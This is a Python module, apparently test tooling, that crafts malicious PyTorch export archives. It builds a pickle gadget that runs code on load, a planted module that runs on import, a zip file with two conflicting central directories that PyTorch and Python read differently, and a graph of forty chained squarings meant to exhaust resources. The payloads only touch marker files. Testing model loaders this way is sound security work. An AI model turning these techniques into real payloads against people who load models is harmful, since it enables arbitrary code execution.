"""Changes programs of `torch.export` into files that would run code when PyTorch reads them."""

import io
import json
import struct
import zipfile
from pathlib import Path

import torch


class Malicious:
    """Writes a file when it is unpickled."""

    def __init__(self, place):
        self.place = place

    def __reduce__(self):
        return Path.touch, (self.place,)


class Hidden:
    """A module, written by its file, whose import leaves a trace."""

    name = "module_of_an_attacker"

    @classmethod
    def write(cls, folder, trap):
        (folder / f"{cls.name}.py").write_text(
            f"import enum, pathlib\npathlib.Path({str(trap)!r}).touch()\n"
            "class Kind(enum.Enum):\n    a = 1\n"
        )


def saved(value):
    """Return the bytes of `torch.save`."""
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def read_archive(path):
    """Return the files of an archive, name -> bytes, its first folder left out."""
    with zipfile.ZipFile(path) as archive:
        return {n.split("/", 1)[1]: archive.read(n) for n in archive.namelist()}


def write_archive(files, path):
    """Write an archive of files as PyTorch has them."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in files.items():
            archive.writestr(f"model/{name}", content)


def change_archive(path, change):
    """Rewrite the files of an archive, name -> bytes."""
    files = read_archive(path)
    change(files)
    write_archive(files, path)


def change_program(files, change):
    """Rewrite the JSON of the program among the files of an archive."""
    program = json.loads(files["models/model.json"])
    change(program)
    files["models/model.json"] = json.dumps(program).encode()


def replace_text(files, old, new):
    """Replace a JSON text of the program wherever it stands."""
    text = files["models/model.json"].decode()
    assert f'"{old}"' in text
    files["models/model.json"] = text.replace(f'"{old}"', json.dumps(new)).encode()


def add_products(program):
    """Add the square of the batch's size, the square of that, and so on, forty times."""
    nodes = program["graph_module"]["graph"]["nodes"]
    size = {"name": "s0", "target": "torch.ops.aten.sym_size.int", "metadata": {}}
    x = {"name": "self", "arg": {"as_tensor": {"name": "x"}}, "kind": 1}
    dim = {"name": "dim", "arg": {"as_int": 0}, "kind": 1}
    nodes.append({**size, "inputs": [x, dim], "outputs": [_symbol(0)]})
    for i in range(40):
        both = [{"name": name, "arg": _symbol(i), "kind": 1} for name in "ab"]
        product = {"name": f"s{i + 1}", "target": "_operator.mul", "metadata": {}}
        nodes.append({**product, "inputs": both, "outputs": [_symbol(i + 1)]})


def _symbol(i):
    return {"as_sym_int": {"as_name": f"s{i}"}}


def with_two_directories(first, second):
    """Return a zip file that holds `first` for PyTorch's reader and `second` for Python's.

    The end record gives the place and the size of the directory. PyTorch goes to the place, Python
    takes what lies directly in front of the end record and moves all offsets by the difference.
    """
    bodies, directories = zip(*(_parts(files) for files in (first, second)), strict=True)
    size = max(map(len, directories)) + 200
    front, back = bodies
    front = front.ljust(len(back), b"\0")
    one = _padded(directories[0], size, 0)
    two = _padded(directories[1], size, len(front) - len(back))
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(first), len(first), size, len(front), 0)
    return front + one + back + two + end


def _parts(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    raw = buffer.getvalue()
    size, start = struct.unpack_from("<2I", raw, raw.rindex(b"PK\5\6") + 12)
    return raw[:start], raw[start : start + size]


def _padded(directory, size, shift):
    """Return a directory of `size` bytes, its offsets moved by `shift`."""
    changed, place = bytearray(directory), 0
    while place < len(directory):
        (offset,) = struct.unpack_from("<I", changed, place + 42)
        struct.pack_into("<I", changed, place + 42, offset + shift)
        lengths = struct.unpack_from("<3H", changed, place + 28)
        last, place = place, place + 46 + sum(lengths)
    struct.pack_into("<H", changed, last + 32, size - len(directory))
    return bytes(changed).ljust(size, b"#")
